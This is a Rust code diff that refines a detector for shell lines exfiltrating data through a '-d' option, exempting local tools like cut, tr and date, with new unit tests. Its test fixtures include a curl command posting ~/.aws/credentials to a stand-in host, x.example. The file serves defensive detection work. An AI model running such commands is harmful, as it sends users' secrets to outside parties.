@@ -340,8 +340,29 @@ fn sink_on(l: &str) -> bool {
         if !matches!(*w, "-d \"" | "-d '") {
             return l.has(w);
         }
-        l.match_indices(w).any(|(at, _)| !file_test(&l[..at]))
+        l.match_indices(w)
+            .any(|(at, _)| !file_test(&l[..at]) && !local_tool(&l[..at]))
     })
+}
+
+/// Whether the command a `-d` belongs to is a local text or file tool (`tr -d '"'`, `cut -d'='`,
+/// `base64 -d`, `mktemp -d`, `date -d "…"`): its `-d` deletes, delimits or decodes, it sends
+/// nothing. A line that starts with the option (a `curl` continued from the line above) keeps it.
+fn local_tool(before: &str) -> bool {
+    const TOOLS: &[&str] = &[
+        "tr", "cut", "base64", "gzip", "gunzip", "zstd", "xz", "bzip2", "unzip", "date", "sort",
+        "uniq", "paste", "xargs", "read", "mktemp", "ls", "gpg", "column", "join", "iconv", "od",
+        "xxd",
+    ];
+    let start = before.rfind(['|', ';', '&', '(', '`']).map_or(0, |i| i + 1);
+    let cmd = before[start..]
+        .split_whitespace()
+        .next()
+        .unwrap_or("")
+        .rsplit('/')
+        .next()
+        .unwrap_or("");
+    TOOLS.contains(&cmd)
 }
 
 /// Whether the text before a `-d` ends in a test's opening (`[`, `[[`, `!`, `test`, `(`).
@@ -461,5 +482,20 @@ mod tests {
         assert!(sink_on(
             "[ -d ~/.aws ] && curl -s -d \"$(cat ~/.aws/credentials)\" https://x.example/in"
         ));
+    }
+
+    /// A text or file tool's own `-d` (delete, delimiter, decode, directory) sends nothing; the
+    /// network client's `-d` on the same line, or on a continued line, still does.
+    #[test]
+    fn local_tools_options_are_no_body() {
+        assert!(!sink_on(
+            "key=$(grep -e '^k=' \"$f\" | cut -d= -f2- | tr -d '\"')"
+        ));
+        assert!(!sink_on("when=$(date -d \"yesterday\" +%f)"));
+        assert!(!sink_on("work=$(/usr/bin/mktemp -d \"/tmp/x.XXXX\")"));
+        assert!(sink_on(
+            "v=$(cut -d= -f2 f) && curl -s -d \"v=$v\" https://x.example/in"
+        ));
+        assert!(sink_on("  -d \"{\\\"series\\\": []}\""));
     }
 }
